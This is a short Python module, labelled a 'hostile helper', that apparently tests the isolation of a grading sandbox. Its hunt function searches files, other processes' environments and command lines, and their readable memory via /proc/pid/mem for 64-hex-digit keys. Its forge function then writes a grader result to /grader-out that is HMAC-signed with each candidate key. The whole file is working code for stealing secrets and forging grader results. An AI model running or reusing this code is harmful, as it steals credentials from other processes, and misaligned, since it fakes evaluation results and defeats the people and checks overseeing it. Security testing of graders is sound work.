"""Hostile helper: look everywhere a same-user process can for the driver's key, then forge a signed result."""
import glob
import hashlib
import hmac
import json
import os
import re

HEX = re.compile(rb"\b[0-9a-f]{64}\b")


def _memory(pid, found, tried):
    try:
        with open(f"/proc/{pid}/maps") as maps_file:
            maps = maps_file.read()
        mem = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115
    except OSError as exc:
        tried.append(f"mem {pid}: {type(exc).__name__}")
        return
    with mem:
        for line in maps.splitlines():
            if " rw" not in line:
                continue
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            try:
                mem.seek(start)
                found.update(HEX.findall(mem.read(min(end - start, 64 << 20))))
            except (OSError, ValueError, OverflowError):
                tried.append(f"mem {pid} read refused")


def hunt():
    """Every 64-hex-digit string readable in files, environments, command lines and other processes' memory."""
    found, tried = set(), []
    paths = ["/grader-out", "/grader-in/request.json", *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline")]
    for path in paths:
        try:
            with open(path, "rb") as handle:
                found.update(HEX.findall(handle.read(1 << 20)))
        except OSError as exc:
            tried.append(f"{path}: {type(exc).__name__}")
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            _memory(pid, found, tried)
    print(f"hunt: {len(found)} candidate keys; refused: {len(tried)}")
    return found


def forge(payload, keys):
    """Write a result signed with each candidate key in turn (the last one stays)."""
    body = json.dumps(payload, sort_keys=True)
    for key in sorted(keys) or [b"0" * 64]:
        mac = hmac.new(key, body.encode(), hashlib.sha256).hexdigest()
        try:
            with open("/grader-out", "w") as handle:
                handle.write(json.dumps({"body": body, "mac": mac}))
        except OSError as exc:
            print("forge refused:", type(exc).__name__)
